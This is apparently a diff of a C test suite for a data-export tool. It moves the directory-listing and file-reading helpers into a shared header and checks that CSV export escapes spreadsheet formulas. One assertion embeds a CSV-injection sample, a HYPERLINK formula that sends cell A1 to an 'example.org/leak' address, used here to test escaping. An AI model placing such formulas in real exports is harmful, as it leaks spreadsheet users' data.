@@ -10,6 +10,7 @@
 #include <string.h>
 #include <unistd.h>
 
+#include "succession-test-files.h"
 #include "succession-test-utils.h"
 
 static char *dir;
@@ -114,29 +115,6 @@ test_usage (void)
   g_assert_nonnull (strstr (err, "--tiles"));
 }
 
-static int
-compare_names (gconstpointer a,
-               gconstpointer b)
-{
-  return strcmp (*(const char * const *) a, *(const char * const *) b);
-}
-
-/* The names in @folder, sorted, joined by spaces: what a user sees there. */
-static char *
-list_dir (const char *folder)
-{
-  g_autoptr(GDir) d = g_dir_open (folder, 0, NULL);
-  g_autoptr(GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
-  const char *name;
-
-  g_assert_nonnull (d);
-  while ((name = g_dir_read_name (d)) != NULL)
-    g_ptr_array_add (names, g_strdup (name));
-  g_ptr_array_sort (names, compare_names);
-  g_ptr_array_add (names, NULL);
-  return g_strjoinv (" ", (char **) names->pdata);
-}
-
 static char *
 make_folder (const char *name)
 {
@@ -144,15 +122,6 @@ make_folder (const char *name)
 
   g_assert_cmpint (g_mkdir (folder, 0755), ==, 0);
   return folder;
-}
-
-static char *
-read_file (const char *path)
-{
-  char *contents = NULL;
-
-  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
-  return contents;
 }
 
 /* A user's Ctrl+C or `kill` reaches the export with the default actions, whatever the test
@@ -228,16 +197,16 @@ test_killed (void)
       g_autofree char *contents = NULL;
 
       kill_during_export ((const char *[]) { "--export-dataset", fresh, NULL }, "100000", signals[i]);
-      listing = list_dir (folder);
+      listing = succession_test_list_dir (folder);
       g_assert_cmpstr (listing, ==, "");
       g_clear_pointer (&listing, g_free);
 
       g_assert_true (g_file_set_contents (old_pdf, "the old chart", -1, NULL));
       kill_during_export ((const char *[]) { "--export-chart=npcsc-chairperson,cppcc-chairperson", pdf, NULL },
                           "20000", signals[i]);
-      listing = list_dir (folder);
+      listing = succession_test_list_dir (folder);
       g_assert_cmpstr (listing, ==, "chart.pdf");
-      contents = read_file (old_pdf);
+      contents = succession_test_read_file (old_pdf);
       g_assert_cmpstr (contents, ==, "the old chart");
     }
 }
@@ -257,9 +226,9 @@ test_killed_hard (void)
   g_assert_true (g_file_set_contents (target, "old", -1, NULL));
   kill_during_export ((const char *[]) { "--export-dataset", output, NULL }, "100000", SIGKILL);
 
-  listing = list_dir (folder);
+  listing = succession_test_list_dir (folder);
   g_assert_true (g_regex_match (expected, listing, 0, NULL));
-  contents = read_file (target);
+  contents = succession_test_read_file (target);
   g_assert_cmpstr (contents, ==, "old");
 }
 
@@ -280,9 +249,9 @@ test_link (void)
 
   g_assert_cmpint (run ((const char *[]) { "--export-table=npcsc-chairperson", output, NULL }, &err), ==, 0);
   g_assert_true (g_file_test (link, G_FILE_TEST_IS_SYMLINK));
-  contents = read_file (real);
+  contents = succession_test_read_file (real);
   g_assert_true (g_str_has_prefix (contents, "number,name,"));
-  listing = list_dir (folder);
+  listing = succession_test_list_dir (folder);
   g_assert_cmpstr (listing, ==, "link.csv real.csv");
 }
 
@@ -298,7 +267,7 @@ test_dataset_not_overwritten (void)
   g_autofree char *soft = g_build_filename (folder, "soft.json", NULL);
   g_autofree char *dotted = g_build_filename (folder, ".", "mine.json", NULL);
   g_autofree char *dataset = g_strdup_printf ("--dataset=%s", mine);
-  g_autofree char *original = read_file (source);
+  g_autofree char *original = succession_test_read_file (source);
   const char *outputs[] = { mine, hard, soft, dotted };
 
   g_assert_true (g_file_set_contents (mine, original, -1, NULL));
@@ -321,13 +290,13 @@ test_dataset_not_overwritten (void)
 
           g_assert_cmpint (run (commands[c], &err), ==, 1);
           g_assert_nonnull (strstr (err, "dataset"));
-          contents = read_file (mine);
+          contents = succession_test_read_file (mine);
           g_assert_cmpstr (contents, ==, original);
         }
     }
 
   {
-    g_autofree char *listing = list_dir (folder);
+    g_autofree char *listing = succession_test_list_dir (folder);
     g_assert_cmpstr (listing, ==, "hard.json mine.json soft.json");
   }
 }
@@ -348,7 +317,7 @@ test_csv_formulas (void)
 
   g_assert_cmpint (run ((const char *[]) { dataset, "--export-table=office", safe_output, NULL }, &err), ==, 0);
   g_clear_pointer (&err, g_free);
-  safe = read_file (safe_path);
+  safe = succession_test_read_file (safe_path);
 
   /* Every line after the header: number, then the name; a formula never starts a cell. */
   g_assert_nonnull (strstr (safe, "\r\n1,\"'=HYPERLINK(\"\"https://example.org/leak?\"\"&A1,\"\"click\"\")\",p1,"));
@@ -362,7 +331,7 @@ test_csv_formulas (void)
   g_assert_null (strstr (safe, ",@"));
 
   g_assert_cmpint (run ((const char *[]) { dataset, "--export-table=office", raw_output, "--raw-csv", NULL }, &err), ==, 0);
-  raw = read_file (raw_path);
+  raw = succession_test_read_file (raw_path);
   g_assert_nonnull (strstr (raw, "\r\n1,\"=HYPERLINK("));
   g_assert_nonnull (strstr (raw, "\r\n2,+86 10 1234 5678,p2,"));
   g_assert_nonnull (strstr (raw, "\r\n5,\"\t=1+1\",p5,"));
